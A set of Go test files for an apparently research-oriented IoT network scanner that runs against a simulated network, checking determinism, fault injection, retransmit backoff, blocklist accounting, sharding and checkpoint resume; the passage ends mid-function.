	workers int, mut func(*Config)) (string, map[iot.Protocol]Stats) {
	t.Helper()
	n, prefix := chaosWorld(t, cidr, boost, profile)
	cfg := Config{
		Network: n,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  prefix,
		Seed:    5,
		Workers: workers,
	}
	if mut != nil {
		mut(&cfg)
	}
	results, stats := NewScanner(cfg).RunAll(context.Background(), AllModules())
	return digestResults(results), stats
}

// digestResults serializes a result map deterministically: protocols sorted,
// per-protocol slices already sorted by (IP, Port), every field included.
func digestResults(results map[iot.Protocol][]*Result) string {
	protos := make([]iot.Protocol, 0, len(results))
	for p := range results {
		protos = append(protos, p)
	}
	sort.Slice(protos, func(i, j int) bool { return protos[i] < protos[j] })
	var b strings.Builder
	for _, p := range protos {
		for _, r := range results[p] {
			fmt.Fprintf(&b, "%s|%v|%d|%q|%q|", p, r.IP, r.Port, r.Banner, r.Response)
			keys := make([]string, 0, len(r.Meta))
			for k := range r.Meta {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				fmt.Fprintf(&b, "%s=%q;", k, r.Meta[k])
			}
			b.WriteByte('\n')
		}
	}
	return b.String()
}

// statsEqual compares the deterministic stats fields (Elapsed is wall-clock
// and excluded).
func statsEqual(a, b map[iot.Protocol]Stats) string {
	for p, sa := range a {
		sb := b[p]
		sa.Elapsed, sb.Elapsed = 0, 0
		if sa != sb {
			return fmt.Sprintf("%s: %+v vs %+v", p, sa, sb)
		}
	}
	return ""
}

// TestChaosZeroFaultIsNoop asserts the zero profile produces no model at all
// and that a scan over it is byte-identical to a scan on a network that
// never heard of the fault layer, with none of the failure counters moving
// and exactly one transmission per target.
func TestChaosZeroFaultIsNoop(t *testing.T) {
	if m := faults.New(faults.Zero()); m != nil {
		t.Fatal("New(Zero()) built a model; zero profiles must install nothing")
	}
	plain, plainStats := chaosScan(t, "50.0.0.0/18", 200, faults.Zero(), 16, nil)
	zero, zeroStats := chaosScan(t, "50.0.0.0/18", 200, faults.Profile{}, 16, nil)
	if plain != zero {
		t.Fatal("zero-fault profile changed scan output")
	}
	if diff := statsEqual(plainStats, zeroStats); diff != "" {
		t.Fatalf("zero-fault stats differ: %s", diff)
	}
	for p, st := range zeroStats {
		if st.Timeouts != 0 || st.Resets != 0 || st.Partials != 0 ||
			st.Retransmits != 0 || st.BreakerSkipped != 0 {
			t.Fatalf("%s: failure counters moved on a perfect network: %+v", p, st)
		}
	}
}

// TestChaosDeterministicAcrossWorkers asserts a faulted scan's output is a
// pure function of (seed, profile): byte-identical results and identical
// stats for 1, 7 and 32 workers.
func TestChaosDeterministicAcrossWorkers(t *testing.T) {
	profile := faults.Calibrated()
	base, baseStats := chaosScan(t, "50.0.0.0/19", 200, profile, 1, nil)
	for _, workers := range []int{7, 32} {
		got, gotStats := chaosScan(t, "50.0.0.0/19", 200, profile, workers, nil)
		if got != base {
			t.Fatalf("results with %d workers differ from single-worker run", workers)
		}
		if diff := statsEqual(baseStats, gotStats); diff != "" {
			t.Fatalf("stats with %d workers differ: %s", workers, diff)
		}
	}
}

// TestChaosRunToRunIdentity asserts two runs with identical (seed, profile)
// are byte-identical, including every degradation counter.
func TestChaosRunToRunIdentity(t *testing.T) {
	profile := faults.Harsh()
	a, aStats := chaosScan(t, "50.0.0.0/19", 200, profile, 16, nil)
	b, bStats := chaosScan(t, "50.0.0.0/19", 200, profile, 16, nil)
	if a != b {
		t.Fatal("two identical harsh-profile runs produced different output")
	}
	if diff := statsEqual(aStats, bStats); diff != "" {
		t.Fatalf("stats differ across identical runs: %s", diff)
	}
}

// TestChaosRetransmitRecoversLoss asserts bounded retransmission restores
// coverage on a lossy-but-otherwise-clean network: with 20% SYN/datagram
// loss and 3 attempts per target, the miss probability per target is 0.8%,
// so the scan should find nearly every host the zero-fault scan finds.
func TestChaosRetransmitRecoversLoss(t *testing.T) {
	lossy := faults.Profile{Seed: 42, SYNLoss: 0.20, DatagramLoss: 0.20}
	_, baseline := chaosScan(t, "50.0.0.0/19", 200, faults.Zero(), 16, nil)
	_, oneShot := chaosScan(t, "50.0.0.0/19", 200, lossy, 16, func(c *Config) { c.MaxAttempts = 1 })
	_, retried := chaosScan(t, "50.0.0.0/19", 200, lossy, 16, nil) // default 3 attempts

	for p, base := range baseline {
		if base.Responded == 0 {
			continue
		}
		one, three := oneShot[p], retried[p]
		if one.Retransmits != 0 {
			t.Fatalf("%s: MaxAttempts=1 still retransmitted", p)
		}
		if three.Retransmits == 0 || three.Timeouts == 0 {
			t.Fatalf("%s: lossy run recorded no timeouts/retransmits: %+v", p, three)
		}
		// One shot at 20% loss loses real coverage; (UDP needs both the query
		// and, for TCP, the SYN to survive, so the drop is roughly 20%).
		if float64(one.Responded) > 0.95*float64(base.Responded) {
			t.Fatalf("%s: one-shot scan unexpectedly kept coverage (%d of %d)",
				p, one.Responded, base.Responded)
		}
		// Three attempts recover it to within a few percent.
		if float64(three.Responded) < 0.95*float64(base.Responded) {
			t.Fatalf("%s: retransmits recovered only %d of %d responders",
				p, three.Responded, base.Responded)
		}
	}
}

// TestChaosBreakerSkipsBlackholed pins the circuit breaker's exact,
// deterministic arithmetic: with every /24 blackholed, the feed passes the
// first BreakerThreshold addresses of each /24 (the scanner must burn
// timeouts to learn the prefix is dead) and skips the rest.
func TestChaosBreakerSkipsBlackholed(t *testing.T) {
	profile := faults.Profile{Seed: 1, BlackholeFrac: 1.0}
	n, prefix := chaosWorld(t, "50.0.0.0/24", 50, profile)
	s := NewScanner(Config{
		Network: n, Source: netsim.MustParseIPv4("130.226.0.1"),
		Prefix: prefix, Seed: 5, Workers: 8,
		Blocklist: netsim.NewPrefixSet(), // empty: all 256 addresses in play
	})
	st := s.Run(context.Background(), TelnetModule{}, nil)

	const threshold = 8                     // NewScanner default
	wantProbed := uint64(threshold * 2 * 3) // 8 addrs x 2 ports x 3 attempts
	wantSkipped := uint64((256 - threshold) * 2)
	if st.Probed != wantProbed {
		t.Fatalf("probed %d transmissions, want %d", st.Probed, wantProbed)
	}
	if st.BreakerSkipped != wantSkipped {
		t.Fatalf("breaker skipped %d targets, want %d", st.BreakerSkipped, wantSkipped)
	}
	if st.Responded != 0 {
		t.Fatalf("%d responses out of a fully blackholed prefix", st.Responded)
	}
	if st.Timeouts != wantProbed {
		t.Fatalf("timeouts %d, want %d (every transmission lost)", st.Timeouts, wantProbed)
	}
}

// TestChaosStreamPathologies asserts tarpits and resets surface as the
// partial/reset outcome classes rather than vanishing into true negatives.
func TestChaosStreamPathologies(t *testing.T) {
	_, tarpitStats := chaosScan(t, "50.0.0.0/20", 200,
		faults.Profile{Seed: 9, TarpitProb: 1.0, TarpitBytes: 8}, 16, nil)
	st := tarpitStats[iot.ProtoTelnet]
	if st.Partials == 0 {
		t.Fatalf("universal tarpit produced no partial banners: %+v", st)
	}
	if st.Responded != 0 {
		t.Fatalf("8-byte tarpit still yielded %d classified telnet banners", st.Responded)
	}

	_, resetStats := chaosScan(t, "50.0.0.0/20", 200,
		faults.Profile{Seed: 9, ResetProb: 1.0, ResetBytes: 4}, 16, nil)
	st = resetStats[iot.ProtoTelnet]
	if st.Resets == 0 {
		t.Fatalf("universal resets produced no reset outcomes: %+v", st)
	}
	if st.Responded != 0 {
		t.Fatalf("4-byte reset budget still yielded %d telnet banners", st.Responded)
	}
}

// TestScanCancelAbortsThrottledSweep asserts context cancellation aborts a
// rate-limited sweep promptly: at 50 probes/s the full /24 x 2 ports would
// take ~10s, but cancellation after 100ms must end the run within a token
// period or two, not after the schedule drains.
func TestScanCancelAbortsThrottledSweep(t *testing.T) {
	n, prefix := chaosWorld(t, "50.0.0.0/24", 50, faults.Zero())
	s := NewScanner(Config{
		Network: n, Source: netsim.MustParseIPv4("130.226.0.1"),
		Prefix: prefix, Seed: 5, Workers: 4, RatePerSec: 50,
		Blocklist: netsim.NewPrefixSet(),
	})
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(100 * time.Millisecond)
		cancel()
	}()
	start := time.Now()
	st := s.Run(ctx, TelnetModule{}, nil)
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("canceled throttled sweep still ran %v", elapsed)
	}
	if st.Probed >= 512 {
		t.Fatalf("canceled sweep probed all %d targets", st.Probed)
	}
}

// TestBackoffSchedule pins the retransmit schedule: exponential growth from
// RetransmitBase, jitter in [0, delay/2] drawn from the derived stream, and
// a hard cap for large attempt ordinals (including the shift-overflow case).
func TestBackoffSchedule(t *testing.T) {
	s := NewScanner(Config{Network: netsim.NewNetwork(nil), Prefix: netsim.MustParsePrefix("10.0.0.0/24")})
	base, cap := s.cfg.RetransmitBase, s.cfg.RetransmitCap
	cases := []struct {
		attempt  uint32
		min, max time.Duration
	}{
		{0, base, base + base/2},
		{1, 2 * base, 3 * base},
		{2, 4 * base, 6 * base},
		{4, cap, cap + cap/2},  // base<<4 == cap exactly
		{5, cap, cap + cap/2},  // beyond the cap
		{63, cap, cap + cap/2}, // shift wraps to <= 0; must clamp, not explode
	}
	for _, c := range cases {
		for ipOff := netsim.IPv4(0); ipOff < 50; ipOff++ {
			d := s.backoffDelay(netsim.MustParseIPv4("10.0.0.1")+ipOff, 23, c.attempt)
			if d < c.min || d > c.max {
				t.Fatalf("attempt %d: delay %v outside [%v, %v]", c.attempt, d, c.min, c.max)
			}
		}
	}

	// Pure function: identical inputs, identical delay; distinct targets and
	// attempts draw distinct jitter (not all collapsed onto one value).
	ip := netsim.MustParseIPv4("10.0.0.7")
	if s.backoffDelay(ip, 23, 1) != s.backoffDelay(ip, 23, 1) {
		t.Fatal("backoffDelay is not deterministic")
	}
	seen := make(map[time.Duration]bool)
	for off := netsim.IPv4(0); off < 64; off++ {
		seen[s.backoffDelay(ip+off, 23, 1)] = true
	}
	if len(seen) < 8 {
		t.Fatalf("jitter nearly constant across targets: %d distinct values of 64", len(seen))
	}

	// Two scanners with the same seed agree on every delay (the cross-worker
	// determinism the retransmit loop depends on); different seeds do not all
	// agree.
	s2 := NewScanner(Config{Network: netsim.NewNetwork(nil), Prefix: netsim.MustParsePrefix("10.0.0.0/24")})
	for off := netsim.IPv4(0); off < 64; off++ {
		if s.backoffDelay(ip+off, 23, 2) != s2.backoffDelay(ip+off, 23, 2) {
			t.Fatal("same-seed scanners disagree on the backoff schedule")
		}
	}
}
