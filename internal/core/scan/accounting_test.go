package scan

import (
	"context"
	"testing"
	"time"

	"openhire/internal/netsim"
	"openhire/internal/netsim/faults"
)

// TestBlockedCounted is the regression test for the dead Stats.Blocked
// field: NewAddressIterator filtered blocklisted addresses without counting
// them, so a scan over a blocklisted range reported Blocked == 0 and the
// coverage accounting silently lost those addresses.
func TestBlockedCounted(t *testing.T) {
	n, _, _ := buildTestWorld(t, 100)
	prefix := netsim.MustParsePrefix("50.0.0.0/22")
	blocked := netsim.MustParsePrefix("50.0.1.0/24")
	s := NewScanner(Config{
		Network:   n,
		Source:    netsim.MustParseIPv4("130.226.0.1"),
		Prefix:    prefix,
		Seed:      5,
		Workers:   8,
		Blocklist: netsim.NewPrefixSet(blocked),
	})
	st := s.Run(context.Background(), TelnetModule{}, nil)
	if st.Blocked == 0 {
		t.Fatal("scan over a blocklisted /24 reported Stats.Blocked == 0")
	}
	if want := blocked.Size(); st.Blocked != want {
		t.Fatalf("Blocked = %d, want the full covered /24 = %d", st.Blocked, want)
	}
	// The blocked addresses must really be excluded from probing: Blocked
	// addresses plus first transmissions cover the prefix exactly.
	ports := uint64(len(TelnetModule{}.Ports()))
	if got, want := st.Probed-st.Retransmits+st.Blocked*ports, prefix.Size()*ports; got != want {
		t.Fatalf("first transmissions + blocked×ports = %d, want %d", got, want)
	}
}

// TestBlockedZeroWhenDisjoint pins the fast path: a blocklist that cannot
// overlap the prefix is dropped entirely and counts nothing.
func TestBlockedZeroWhenDisjoint(t *testing.T) {
	n, _, _ := buildTestWorld(t, 100)
	prefix := netsim.MustParsePrefix("50.0.0.0/23")
	s := NewScanner(Config{
		Network: n, Source: 1, Prefix: prefix, Seed: 5, Workers: 4,
		Blocklist: netsim.NewPrefixSet(netsim.MustParsePrefix("10.0.0.0/8")),
	})
	if st := s.Run(context.Background(), TelnetModule{}, nil); st.Blocked != 0 {
		t.Fatalf("disjoint blocklist counted %d blocked addresses", st.Blocked)
	}
}

// TestSplitWorkersSpendsBudget is the regression test for the idle-worker
// bug: RunAllParallel used to integer-divide the budget, so 128 workers over
// 6 modules ran 126 and silently idled 2 (more with -extended's 8 modules).
func TestSplitWorkersSpendsBudget(t *testing.T) {
	cases := []struct {
		total, modules int
	}{
		{128, 6}, // the default config: old code lost 128%6 == 2 workers
		{128, 8}, // -extended: old code lost 0 but shares were uneven
		{127, 8}, // old code lost 7
		{64, 6},
		{7, 6},
		{6, 6},
	}
	for _, c := range cases {
		counts := splitWorkers(c.total, c.modules)
		if len(counts) != c.modules {
			t.Fatalf("splitWorkers(%d, %d): %d shares", c.total, c.modules, len(counts))
		}
		sum := 0
		for i, n := range counts {
			if n < 1 {
				t.Fatalf("splitWorkers(%d, %d): module %d got %d workers", c.total, c.modules, i, n)
			}
			sum += n
			// Remainder spreads one-each: shares differ by at most 1.
			if diff := counts[0] - n; diff < 0 || diff > 1 {
				t.Fatalf("splitWorkers(%d, %d): uneven shares %v", c.total, c.modules, counts)
			}
		}
		if sum != c.total {
			t.Fatalf("splitWorkers(%d, %d) = %v sums to %d, budget dropped",
				c.total, c.modules, counts, sum)
		}
	}
	// Degenerate budgets: every module still gets one worker even when that
	// overspends the budget, and zero modules yields no shares.
	if counts := splitWorkers(2, 6); len(counts) != 6 {
		t.Fatalf("splitWorkers(2, 6) = %v", counts)
	} else {
		for _, n := range counts {
			if n != 1 {
				t.Fatalf("splitWorkers(2, 6) = %v, want all ones", counts)
			}
		}
	}
	if counts := splitWorkers(10, 0); len(counts) != 0 {
		t.Fatalf("splitWorkers(10, 0) = %v, want empty", counts)
	}
}

// TestBackoffBaseClamp is the regression test for the shift-overflow bug:
// `base << attempt` wraps int64 for large attempt ordinals, and a
// wrapped-but-positive value below cap evaded the old `d <= 0 || d > cap`
// guard, producing a non-monotone schedule. The table walks attempts 0–70
// for both the default knobs and an adversarial base whose wrap lands
// positive and small (base = 2^31+1 ns at attempt 33 used to come out as
// 2^33 ns ≈ 8.6s, below the 10s cap).
func TestBackoffBaseClamp(t *testing.T) {
	cases := []struct {
		name      string
		base, cap time.Duration
	}{
		{"defaults", 100 * time.Millisecond, 1600 * time.Millisecond},
		{"wrap-positive", time.Duration(1<<31 + 1), 10 * time.Second},
		{"1ns-base", time.Nanosecond, time.Second},
		{"base-above-cap", 2 * time.Second, time.Second},
	}
	for _, c := range cases {
		prev := time.Duration(0)
		for attempt := uint32(0); attempt <= 70; attempt++ {
			d := backoffBase(c.base, c.cap, attempt)
			if d <= 0 {
				t.Fatalf("%s: attempt %d: non-positive delay %v", c.name, attempt, d)
			}
			if d > c.cap {
				t.Fatalf("%s: attempt %d: delay %v beyond cap %v", c.name, attempt, d, c.cap)
			}
			if d < prev {
				t.Fatalf("%s: attempt %d: schedule not monotone (%v after %v)",
					c.name, attempt, d, prev)
			}
			if attempt >= backoffShiftMax && d != c.cap {
				t.Fatalf("%s: attempt %d: delay %v, want saturated cap %v", c.name, attempt, d, c.cap)
			}
			prev = d
		}
		// The un-clamped range still doubles: exponential growth is the point.
		if c.base <= c.cap/2 {
			if d0, d1 := backoffBase(c.base, c.cap, 0), backoffBase(c.base, c.cap, 1); d1 != 2*d0 {
				t.Fatalf("%s: attempt 1 delay %v, want double attempt 0's %v", c.name, d1, d0)
			}
		}
	}
}

// TestStatsConservation pins the accounting identity the manifest relies on,
// for faulted and unfaulted runs across 1/7/32 workers: every transmission
// lands in exactly one outcome class, and first transmissions plus skipped
// and blocked targets tile the scanned prefix exactly.
func TestStatsConservation(t *testing.T) {
	prefix := netsim.MustParsePrefix("50.0.0.0/22")
	blocklist := netsim.NewPrefixSet(netsim.MustParsePrefix("50.0.2.0/24"))
	profiles := map[string]faults.Profile{
		"unfaulted":  faults.Zero(),
		"calibrated": faults.Calibrated(),
	}
	for name, profile := range profiles {
		for _, workers := range []int{1, 7, 32} {
			n, _, _ := buildTestWorld(t, 150)
			if m := faults.New(profile); m != nil {
				n.SetFaults(m)
			}
			s := NewScanner(Config{
				Network:   n,
				Source:    netsim.MustParseIPv4("130.226.0.1"),
				Prefix:    prefix,
				Seed:      5,
				Workers:   workers,
				Blocklist: blocklist,
			})
			for _, m := range AllModules() {
				st := s.Run(context.Background(), m, nil)
				outcomes := st.Responded + st.Timeouts + st.Resets + st.Partials + st.Negatives
				if st.Probed != outcomes {
					t.Fatalf("%s/%s/%d workers: Probed %d != outcome sum %d (%+v)",
						name, m.Protocol(), workers, st.Probed, outcomes, st)
				}
				ports := uint64(len(m.Ports()))
				covered := (st.Probed - st.Retransmits) + st.BreakerSkipped + st.Blocked*ports
				if want := prefix.Size() * ports; covered != want {
					t.Fatalf("%s/%s/%d workers: coverage %d != prefix targets %d (%+v)",
						name, m.Protocol(), workers, covered, want, st)
				}
			}
		}
	}
}
