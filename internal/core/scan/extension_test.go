package scan_test

import (
	"context"
	"testing"

	"openhire/internal/core/classify"
	"openhire/internal/core/scan"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// extWorld assembles a boosted universe for the extension-scan tests.
func extWorld(boost float64) (*netsim.Network, *iot.Universe, netsim.Prefix) {
	prefix := netsim.MustParsePrefix("50.0.0.0/16")
	u := iot.NewUniverse(iot.UniverseConfig{Seed: 77, Prefix: prefix, DensityBoost: boost})
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	n.AddProvider(prefix, u)
	return n, u, prefix
}

func TestExtendedScanTR069(t *testing.T) {
	n, u, prefix := extWorld(100)
	s := scan.NewScanner(scan.Config{Network: n, Source: 1, Prefix: prefix, Seed: 30, Workers: 64})
	var results []*scan.Result
	gate := make(chan struct{}, 1)
	gate <- struct{}{}
	s.Run(context.Background(), scan.TR069Module{}, func(r *scan.Result) {
		<-gate
		results = append(results, r)
		gate <- struct{}{}
	})
	if len(results) == 0 {
		t.Fatal("no TR-069 endpoints found")
	}
	want := u.ExpectedExtensionExposed(iot.ProtoTR069)
	got := float64(len(results))
	if got < want*0.8 || got > want*1.2 {
		t.Fatalf("found %v TR-069 hosts, expected ~%.0f", got, want)
	}
	noauth := 0
	for _, r := range results {
		f := classify.Classify(r)
		if f.Misconfig == iot.TR069NoAuth {
			noauth++
			if r.Meta["tr069.status"] != "200" {
				t.Fatalf("no-auth endpoint with status %s", r.Meta["tr069.status"])
			}
		} else if r.Meta["tr069.status"] != "401" {
			t.Fatalf("configured endpoint with status %s", r.Meta["tr069.status"])
		}
	}
	share := float64(noauth) / got
	if share < 0.2 || share > 0.45 {
		t.Fatalf("no-auth share %.2f, want ~0.31", share)
	}
}

func TestExtendedScanSMB(t *testing.T) {
	n, u, prefix := extWorld(1000)
	_ = prefix
	small := netsim.MustParsePrefix("50.0.0.0/17")
	s := scan.NewScanner(scan.Config{Network: n, Source: 1, Prefix: small, Seed: 31, Workers: 64})
	var results []*scan.Result
	gate := make(chan struct{}, 1)
	gate <- struct{}{}
	s.Run(context.Background(), scan.SMBModule{}, func(r *scan.Result) {
		<-gate
		results = append(results, r)
		gate <- struct{}{}
	})
	_ = u
	if len(results) == 0 {
		t.Fatal("no SMB endpoints found")
	}
	v1 := 0
	for _, r := range results {
		switch r.Meta["smb.dialect"] {
		case "NT LM 0.12":
			v1++
			if classify.Classify(r).Misconfig != iot.SMBv1Enabled {
				t.Fatal("SMB1 dialect not classified")
			}
		case "SMB 2.002":
			if classify.Classify(r).Misconfigured() {
				t.Fatal("SMB2 host misclassified")
			}
		default:
			t.Fatalf("unexpected dialect %q", r.Meta["smb.dialect"])
		}
	}
	share := float64(v1) / float64(len(results))
	if share < 0.25 || share > 0.6 {
		t.Fatalf("SMB1 share %.2f, want ~0.42", share)
	}
}

func TestExtendedModulesDisjointFromDefault(t *testing.T) {
	defaults := make(map[iot.Protocol]bool)
	for _, m := range scan.AllModules() {
		defaults[m.Protocol()] = true
	}
	for _, m := range scan.ExtendedModules() {
		if defaults[m.Protocol()] {
			t.Fatalf("extension module %s overlaps the paper's six", m.Protocol())
		}
	}
}

func TestExtensionMisconfigStrings(t *testing.T) {
	if iot.TR069NoAuth.String() != "No auth, connection request" {
		t.Fatal(iot.TR069NoAuth.String())
	}
	if iot.SMBv1Enabled.Protocol() != iot.ProtoSMB {
		t.Fatal("SMBv1 protocol mapping")
	}
	if iot.TR069NoAuth.Protocol() != iot.ProtoTR069 {
		t.Fatal("TR069 protocol mapping")
	}
}
