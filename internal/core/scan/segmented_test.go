package scan

import (
	"context"
	"encoding/json"
	"errors"
	"testing"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/netsim/faults"
)

// segmentedScan runs all modules through RunSegmented on a fresh world and
// returns the digest and stats, threading resume/commit through.
func segmentedScan(t testing.TB, workers, segment int, resume *SegmentedState,
	onCommit func(*SegmentedState) error) (string, map[iot.Protocol]Stats, error) {
	t.Helper()
	n, prefix := chaosWorld(t, "50.0.0.0/20", 200, faults.Calibrated())
	cfg := Config{
		Network:          n,
		Source:           netsim.MustParseIPv4("130.226.0.1"),
		Prefix:           prefix,
		Seed:             5,
		Workers:          workers,
		BreakerThreshold: 3,
	}
	if onCommit == nil {
		onCommit = func(*SegmentedState) error { return nil }
	}
	results, stats, err := NewScanner(cfg).RunSegmented(context.Background(),
		AllModules(), resume, segment, onCommit)
	return digestResults(results), stats, err
}

// TestSegmentedMatchesRunAllParallel asserts the segmented walk is an exact
// re-expression of the parallel scan: byte-identical results and identical
// deterministic stats for several (workers, segment size) combinations,
// including segments far smaller than a module and larger than the walk.
func TestSegmentedMatchesRunAllParallel(t *testing.T) {
	profile := faults.Calibrated()
	n, prefix := chaosWorld(t, "50.0.0.0/20", 200, profile)
	base, baseStats := NewScanner(Config{
		Network: n, Source: netsim.MustParseIPv4("130.226.0.1"), Prefix: prefix,
		Seed: 5, Workers: 16, BreakerThreshold: 3,
	}).RunAllParallel(context.Background(), AllModules())
	baseDigest := digestResults(base)

	for _, tc := range []struct{ workers, segment int }{
		{1, 64}, {16, 64}, {16, 999}, {7, 1 << 20},
	} {
		got, gotStats, err := segmentedScan(t, tc.workers, tc.segment, nil, nil)
		if err != nil {
			t.Fatalf("workers=%d segment=%d: %v", tc.workers, tc.segment, err)
		}
		if got != baseDigest {
			t.Fatalf("workers=%d segment=%d: results differ from RunAllParallel",
				tc.workers, tc.segment)
		}
		if diff := statsEqual(baseStats, gotStats); diff != "" {
			t.Fatalf("workers=%d segment=%d: stats differ: %s", tc.workers, tc.segment, diff)
		}
	}
}

// TestSegmentedResumeFromEveryCommit kills the scan (by returning an error
// from onCommit) at each successive commit point, marshals the state through
// JSON exactly as a checkpoint would, resumes on a fresh world, and asserts
// the final output is byte-identical to the uninterrupted run.
func TestSegmentedResumeFromEveryCommit(t *testing.T) {
	golden, goldenStats, err := segmentedScan(t, 16, 200, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	var commits int
	_, _, _ = segmentedScan(t, 16, 200, nil, func(*SegmentedState) error {
		commits++
		return nil
	})
	if commits < 8 {
		t.Fatalf("only %d commits; world too small to exercise resume", commits)
	}
	stop := errors.New("stop")
	step := commits / 6
	if step == 0 {
		step = 1
	}
	for kill := 1; kill < commits; kill += step {
		var saved []byte
		seen := 0
		_, _, err := segmentedScan(t, 16, 200, nil, func(st *SegmentedState) error {
			seen++
			if seen == kill {
				var merr error
				saved, merr = json.Marshal(st)
				if merr != nil {
					t.Fatal(merr)
				}
				return stop
			}
			return nil
		})
		if !errors.Is(err, stop) {
			t.Fatalf("kill at commit %d: err = %v", kill, err)
		}
		resume := &SegmentedState{}
		if err := json.Unmarshal(saved, resume); err != nil {
			t.Fatal(err)
		}
		got, gotStats, err := segmentedScan(t, 16, 200, resume, nil)
		if err != nil {
			t.Fatalf("resume from commit %d: %v", kill, err)
		}
		if got != golden {
			t.Fatalf("resume from commit %d: results differ from uninterrupted run", kill)
		}
		if diff := statsEqual(goldenStats, gotStats); diff != "" {
			t.Fatalf("resume from commit %d: stats differ: %s", kill, diff)
		}
	}
}

// TestSegmentedStateDeterministicBytes asserts the committed state's bytes
// at each cadence point are a pure function of (seed, config): two
// independent runs marshal identical JSON at every commit.
func TestSegmentedStateDeterministicBytes(t *testing.T) {
	collect := func() [][]byte {
		var states [][]byte
		_, _, err := segmentedScan(t, 16, 300, nil, func(st *SegmentedState) error {
			data, err := json.Marshal(st)
			if err != nil {
				return err
			}
			states = append(states, data)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return states
	}
	a, b := collect(), collect()
	if len(a) != len(b) {
		t.Fatalf("commit counts differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if string(a[i]) != string(b[i]) {
			t.Fatalf("state bytes at commit %d differ between identical runs", i)
		}
	}
}

// TestIteratorCursorRoundTrip asserts Seek(Cursor()) resumes the address
// walk exactly: the remaining sequence from a fresh iterator seeked to a
// mid-walk cursor matches the original iterator's continuation.
func TestIteratorCursorRoundTrip(t *testing.T) {
	prefix := netsim.MustParsePrefix("50.0.0.0/22")
	for _, stopAt := range []int{0, 1, 100, 701} {
		a := NewAddressIterator(prefix, 9, nil, 0, 1)
		for i := 0; i < stopAt; i++ {
			if _, ok := a.Next(); !ok {
				t.Fatalf("walk exhausted before %d addresses", stopAt)
			}
		}
		b := NewAddressIterator(prefix, 9, nil, 0, 1)
		b.Seek(a.Cursor())
		for {
			ipA, okA := a.Next()
			ipB, okB := b.Next()
			if okA != okB || ipA != ipB {
				t.Fatalf("stopAt=%d: walks diverge: (%v,%v) vs (%v,%v)",
					stopAt, ipA, okA, ipB, okB)
			}
			if !okA {
				break
			}
		}
	}
}

// TestOnSegmentDeterministicAcrossWorkers asserts the OnSegment hook's view
// is a pure function of (seed, config, segment index): the sequence of
// (protocol, target count, sorted results) tuples is identical across worker
// counts, every segment arrives sorted by (IP, Port), and hooking the run
// leaves the final results byte-identical to a bare run.
func TestOnSegmentDeterministicAcrossWorkers(t *testing.T) {
	bare, bareStats, err := segmentedScan(t, 16, 200, nil, nil)
	if err != nil {
		t.Fatal(err)
	}

	collect := func(workers int) ([]string, string, map[iot.Protocol]Stats) {
		n, prefix := chaosWorld(t, "50.0.0.0/20", 200, faults.Calibrated())
		var views []string
		cfg := Config{
			Network:          n,
			Source:           netsim.MustParseIPv4("130.226.0.1"),
			Prefix:           prefix,
			Seed:             5,
			Workers:          workers,
			BreakerThreshold: 3,
			OnSegment: func(proto iot.Protocol, targets int, results []*Result) {
				for i := 1; i < len(results); i++ {
					a, b := results[i-1], results[i]
					if a.IP > b.IP || (a.IP == b.IP && a.Port >= b.Port) {
						t.Errorf("segment %d not sorted at %d", len(views), i)
					}
				}
				data, err := json.Marshal(struct {
					Proto   iot.Protocol `json:"proto"`
					Targets int          `json:"targets"`
					Results []*Result    `json:"results"`
				}{proto, targets, results})
				if err != nil {
					t.Error(err)
				}
				views = append(views, string(data))
			},
		}
		results, stats, err := NewScanner(cfg).RunSegmented(context.Background(),
			AllModules(), nil, 200, func(*SegmentedState) error { return nil })
		if err != nil {
			t.Fatal(err)
		}
		return views, digestResults(results), stats
	}

	base, digest, stats := collect(16)
	if len(base) < 8 {
		t.Fatalf("only %d segments; world too small", len(base))
	}
	if digest != bare {
		t.Fatal("hooked run's results differ from bare run")
	}
	if diff := statsEqual(bareStats, stats); diff != "" {
		t.Fatalf("hooked run's stats differ from bare run: %s", diff)
	}
	for _, workers := range []int{1, 7} {
		views, d, _ := collect(workers)
		if d != bare {
			t.Fatalf("workers=%d: results differ", workers)
		}
		if len(views) != len(base) {
			t.Fatalf("workers=%d: %d segments, want %d", workers, len(views), len(base))
		}
		for i := range views {
			if views[i] != base[i] {
				t.Fatalf("workers=%d: segment %d view differs from workers=16", workers, i)
			}
		}
	}
}
