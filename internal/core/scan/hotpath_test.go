package scan

import (
	"bytes"
	"context"
	"testing"
	"time"

	"openhire/internal/netsim"
)

// TestShardUnionEqualsUnsharded asserts the ZMap sharding invariant on the
// batched feed: the union of Shard=0..N-1 scans over a prefix equals the
// unsharded scan's result set, with no duplicates.
func TestShardUnionEqualsUnsharded(t *testing.T) {
	n, _, _ := buildTestWorld(t, 300)
	prefix := netsim.MustParsePrefix("50.0.0.0/20")
	const shards = 3

	collect := func(shard, shardCount int) map[addrKey]bool {
		s := NewScanner(Config{
			Network: n, Source: 1, Prefix: prefix, Seed: 11, Workers: 16,
			Shard: shard, Shards: shardCount,
		})
		rs, _ := s.runCollect(context.Background(), TelnetModule{})
		set := make(map[addrKey]bool, len(rs))
		for _, r := range rs {
			set[addrKey{ip: r.IP, port: r.Port}] = true
		}
		if len(set) != len(rs) {
			t.Fatalf("shard %d/%d: %d results but %d distinct (ip, port)",
				shard, shardCount, len(rs), len(set))
		}
		return set
	}

	full := collect(0, 1)
	union := make(map[addrKey]bool)
	for s := 0; s < shards; s++ {
		for key := range collect(s, shards) {
			if union[key] {
				t.Fatalf("(ip %v, port %d) found by two shards", key.ip, key.port)
			}
			union[key] = true
		}
	}
	if len(union) != len(full) {
		t.Fatalf("shard union has %d hosts, unsharded scan %d", len(union), len(full))
	}
	for key := range full {
		if !union[key] {
			t.Fatalf("(ip %v, port %d) missing from shard union", key.ip, key.port)
		}
	}
}

// TestRunAllParallelMatchesRunAll asserts determinism: for a fixed seed the
// parallel six-protocol scan must produce byte-identical per-protocol
// result sets to the sequential one.
func TestRunAllParallelMatchesRunAll(t *testing.T) {
	n, _, _ := buildTestWorld(t, 300)
